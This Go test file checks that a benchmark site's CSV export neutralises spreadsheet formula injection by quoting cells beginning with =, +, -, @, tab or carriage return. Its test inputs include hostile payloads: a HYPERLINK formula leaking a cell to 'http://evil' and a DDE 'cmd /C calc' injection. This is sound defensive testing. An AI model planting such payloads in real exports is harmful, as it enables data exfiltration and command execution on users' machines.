package site

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/benchline/benchline/internal/blob"
	"github.com/benchline/benchline/internal/blob/blobtest"
)

// TestCSVSafe: a cell a spreadsheet would run as a formula (OWASP's =, +,
// -, @, tab, carriage return) is written as text with a leading quote;
// numbers, negative ones included, and other text are left alone.
func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?x="&A1,"click")`: `'=HYPERLINK("http://evil/?x="&A1,"click")`,
		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
		"+1+1":                   "'+1+1",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"\t=1":                   "'\t=1",
		"\r=1":                   "'\r=1",
		"-0.25":                  "-0.25",
		"+1e3":                   "+1e3",
		"0.5":                    "0.5",
		"simple_python_0":        "simple_python_0",
		"":                       "",
		"a=b":                    "a=b",
	} {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVDownloadNeutralisesFormulas writes a table through writeTable and
// reads the CSV back: hostile sample ids come back quoted as text, the
// numbers as they were.
func TestCSVDownloadNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	store := blobtest.NewMemory()
	out := &output{ctx: ctx, store: store, prefix: "site/"}
	type row struct {
		ID    string  `parquet:"sample_id"`
		Score float64 `parquet:"score"`
	}
	rows := []row{{"=HYPERLINK(\"http://x\")", -0.5}, {"@SUM(1)", 1}, {"+1+1", 0}, {"ok", 0.25}}
	if err := writeTable(out, "t", []string{"sample_id", "score"}, rows, func(r row) []string { return []string{r.ID, f64(r.Score)} }); err != nil {
		t.Fatal(err)
	}
	b, err := blob.GetBytes(ctx, store, "site/downloads/t.csv")
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"sample_id", "score"}, {`'=HYPERLINK("http://x")`, "-0.5"}, {"'@SUM(1)", "1"}, {"'+1+1", "0"}, {"ok", "0.25"}}
	for i := range want {
		if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d = %q, want %q", i, recs[i], want[i])
		}
	}
}
